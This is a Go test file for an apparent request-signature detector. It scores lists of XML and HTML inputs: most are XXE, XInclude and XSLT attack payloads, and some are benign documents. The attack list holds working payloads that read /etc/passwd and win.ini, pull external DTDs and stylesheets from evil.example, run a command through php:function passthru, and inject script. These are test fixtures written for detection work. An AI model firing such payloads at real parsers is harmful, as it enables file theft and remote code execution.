package signature_test

import "testing"

// Public payloads: OWASP's XXE prevention cheat sheet, PortSwigger's XXE
// labs, the billion laughs example of the XML security literature, and
// XInclude and XSLT attacks from HackTricks.
var xxeAttacks = []familyCase{
	{"body:application/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`, 0.99},
	{"body:application/xml", `<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/x.dtd"> %xxe;]><foo/>`, 0.99},
	{"body:application/xml", `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>`, 0.99},
	{"body:application/xml", `<!DOCTYPE foo SYSTEM "http://evil.example/evil.dtd"><foo/>`, 0.99},
	{"body:application/xml", `<!DOCTYPE foo PUBLIC "-//x//y" "http://evil.example/evil.dtd"><foo/>`, 0.99},
	{"body:application/xml", `<!DOCTYPE foo [ %remote; ]>`, 0.99},
	{"body:application/xml", `<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>`, 0.99},
	{"body:application/xml", `<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><r/>`, 0.99},
	{"body:application/xml", `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:copy-of select="document('/etc/passwd')"/></xsl:stylesheet>`, 0.99},
	{"body:application/xml", `<xsl:value-of select="php:function('passthru','id')"/>`, 0.99},
	{"body:text/plain", `]><r>x</r> <!ENTITY y SYSTEM "file:///c:/windows/win.ini">`, 0.99},
	{"body:text/plain", `SYSTEM "file:///etc/passwd">]><r>&x;</r>`, 0.99},
	{"body:application/xml", `<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE foo+AFs-+ADw-!ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-`, 0.99},
	{"q", `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`, 0.99},
	{"body:application/json", `{"xml":"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"}`, 0.99},
	{"body:application/xml", `<foo><![CDATA[<]]>script<![CDATA[>]]>alert(1)<![CDATA[<]]>/script<![CDATA[>]]></foo>`, 0.99},
	{"body:text/plain", `<![CDATA[<script>alert(1)</script>]]>`, 0.99},
	{"body:text/html", `<HTML xmlns:x><?import namespace="x" implementation="http://evil.example/x.htc"><x:x>X</x:x></HTML>`, 0.99},
	{"body:text/html", `<xml ID="i"><I><B>x</B></I></xml><SPAN DATASRC="#i" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`, 0.99},
	{"body:text/html", `<xml SRC="http://evil.example/x.xml" ID=I></xml>`, 0.99},
	{"body:text/html", `<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>`, 0.99},
	{"body:application/xml", `<x><![CDATA[<IMG SRC="javas]]><![CDATA[cript:alert(1);">]]></x>`, 0.99},
}

// HTML and XML that people paste and services exchange.
var xxeBenign = []familyCase{
	{"q", "<!DOCTYPE html><html><body>hi</body></html>", 0},
	{"body:text/html", `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>`, 0},
	{"body:application/xml", `<?xml version="1.0" encoding="UTF-8"?><order><id>42</id><note>Tom &amp; Jerry</note></order>`, 0},
	{"q", "the operating system \"just works\"", 0},
	{"q", "a system 'upgrade' is due", 0},
	{"q", "the parser now accepts <!ENTITY ...> declarations", 0},
	{"body:application/xml", `<doc><![CDATA[if (a < b) { x = "<tag>"; }]]></doc>`, 0},
	{"body:application/xml", `<?xml-stylesheet type="text/xsl" href="feed.xsl"?><rss/>`, 0.95},
}

func TestXXE(t *testing.T) { checkFamily(t, "xxe", xxeAttacks, xxeBenign, 0.9) }
